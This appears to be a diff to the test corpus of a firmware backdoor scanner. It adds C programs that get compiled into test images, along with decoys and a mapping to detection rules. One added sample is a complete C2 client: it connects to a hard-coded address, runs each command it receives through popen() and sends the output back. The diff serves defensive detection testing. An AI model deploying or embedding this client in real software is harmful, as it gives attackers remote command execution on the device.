@@ -2,16 +2,20 @@
 headers written in C in several styles, compiled at test time by the real (cross) compilers
 Debian ships (x86-64 gcc and musl-gcc, mipsel, mips, armel, aarch64) at -O0, -Os and -O2,
 dynamic and static, always stripped, and started at boot by an init script of the stock root.
+Static programs import nothing: the rules name their libc calls by the system calls of the
+wrappers (firmproof.binary.syscalls).
 Beside them, decoys of the same shape: a UDP echo server, a remote-management daemon whose
 `REBOOT` command runs a fixed harmless action, a server that compares input with a value it
-reads from its config file, a program that runs /bin/sh on a fixed local script.
+reads from its config file, a program that runs /bin/sh on a fixed local script, a client that
+connects out and sends a log line (and a fixed command's output), an NTP-like UDP client.
 
 Where a finding must point: a bind shell started at boot is FP-SVC-008 (service.remote-shell)
-at the init script that starts it; a trigger (a magic packet, a secret header) is FP-TRIG
-(service.hidden-trigger) at the binary. The remote-management decoy is reported by FP-TRIG-001
-at low severity, never critical: a documented command with a fixed harmless action is no
-backdoor (issue 12), but a network packet that reboots the device is still worth a line in the
-report (tests/binary/test_rules.py checks the severities).
+at the init script that starts it, a connect-back shell or C2 client FP-SVC-009 there too; a
+trigger (a magic packet, a secret header) is FP-TRIG (service.hidden-trigger) at the binary.
+The remote-management decoy is reported by FP-TRIG-001 at low severity, never critical: a
+documented command with a fixed harmless action is no backdoor (issue 12), but a network packet
+that reboots the device is still worth a line in the report (tests/binary/test_rules.py checks
+the severities).
 
 Programs are built lazily: `variants()` names them (collection stays fast) and the corpus
 compiles one when it copies it into the image (`os.fspath`), once per source, compiler and
@@ -161,6 +165,36 @@ int main(void)
         }
         close(s);
         sleep(60);
+    }
+}
+""",
+    # a C2 client: connect to a hard-coded host, run what it sends with popen(), send the output back
+    "connect-popen": HEAD + """
+int main(void)
+{
+    struct sockaddr_in a;
+    char cmd[256], out[512];
+    for (;;) {
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        memset(&a, 0, sizeof a);
+        a.sin_family = AF_INET;
+        a.sin_port = htons(8443);
+        a.sin_addr.s_addr = inet_addr("198.51.100.7");
+        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
+            ssize_t n;
+            while ((n = recv(s, cmd, sizeof cmd - 1, 0)) > 0) {
+                FILE *p;
+                cmd[n] = 0;
+                p = popen(cmd, "r");
+                if (p == NULL)
+                    continue;
+                while (fgets(out, sizeof out, p))
+                    send(s, out, strlen(out), 0);
+                pclose(p);
+            }
+        }
+        close(s);
+        sleep(30);
     }
 }
 """,
@@ -324,6 +358,50 @@ int main(int argc, char **argv)
     return 0;
 }
 """,
+    # connects out and sends a log line and the output of a fixed command: no shell on the socket
+    "connect-log": HEAD + """
+int main(void)
+{
+    struct sockaddr_in a;
+    char line[128] = "boot ok\\n";
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    FILE *p;
+    memset(&a, 0, sizeof a);
+    a.sin_family = AF_INET;
+    a.sin_port = htons(514);
+    a.sin_addr.s_addr = inet_addr("192.0.2.10");
+    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
+        return 1;
+    send(s, line, strlen(line), 0);
+    p = popen("/usr/bin/uptime", "r");
+    if (p && fgets(line, sizeof line, p))
+        send(s, line, strlen(line), 0);
+    if (p)
+        pclose(p);
+    close(s);
+    return 0;
+}
+""",
+    # an NTP-like UDP client: connect, send a request, read the answer, set nothing up
+    "ntp-client": HEAD + """
+int main(void)
+{
+    unsigned char pkt[48] = {0x1b};
+    struct sockaddr_in a;
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    memset(&a, 0, sizeof a);
+    a.sin_family = AF_INET;
+    a.sin_port = htons(123);
+    a.sin_addr.s_addr = inet_addr("192.0.2.123");
+    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
+        return 1;
+    send(s, pkt, sizeof pkt, 0);
+    if (recv(s, pkt, sizeof pkt, 0) == sizeof pkt && pkt[40] == 0)
+        execl("/bin/sh", "sh", "/etc/ntp-failed.sh", (char *)NULL);
+    close(s);
+    return 0;
+}
+""",
 }
 
 CATEGORY = {
@@ -335,8 +413,9 @@ CATEGORY = {
     "knock-read-fork-exec": "service.hidden-trigger",
     "magic-inline-word": "service.hidden-trigger",
     "http-header-shell": "service.hidden-trigger",
+    "connect-popen": "service.remote-shell",        # last: the others keep their rotation
 }
-DECOYS = ("udp-echo", "mgmt-reboot", "config-secret", "local-script")
+DECOYS = ("udp-echo", "mgmt-reboot", "config-secret", "local-script", "connect-log", "ntp-client")
 
 # (toolchain, optimisation, static): every toolchain and every level for every member
 PLAN: tuple[tuple[str, str, bool], ...] = (
@@ -347,19 +426,6 @@ DECOY_PLAN: tuple[tuple[str, str, bool], ...] = (
     ("x86-64", "-O2", False), ("mipsel", "-O0", False), ("mips", "-Os", True),
     ("armel", "-O2", False), ("aarch64", "-O2", True),
 )
-
-STATIC_MISS = ("static and stripped: no import names, and FP-SVC-008 (services.py) and FP-TRIG "
-               "both start from the imports (socket, bind, dup2, exec*, recv*); recognising libc "
-               "in a static program (syscall wrappers, signatures) is not done yet")
-CONNECT_MISS = ("a compiled connect-back shell started at boot: FP-SVC-008 wants bind/listen/accept "
-                "and no rule reads a program that connects out and dup2()s the socket onto a shell")
-
-
-def known_miss(member: str, static: bool) -> str | None:
-    if member == "connect-back":
-        return CONNECT_MISS
-    return STATIC_MISS if static else None
-
 
 class Program(os.PathLike[str]):
     """A C program compiled on first use (when the corpus copies it), cached on disk by the
@@ -416,8 +482,7 @@ def _variant(member: str, toolchain: str, opt: str, static: bool) -> Variant:
                        programs={daemon: program})
     category = CATEGORY[member]
     where = script if category == "service.remote-shell" else daemon
-    return Variant(FAMILY, name, files, (category, where), programs={daemon: program},
-                   known_miss=known_miss(member, static))
+    return Variant(FAMILY, name, files, (category, where), programs={daemon: program})
 
 
 def variants() -> Iterator[Variant]:
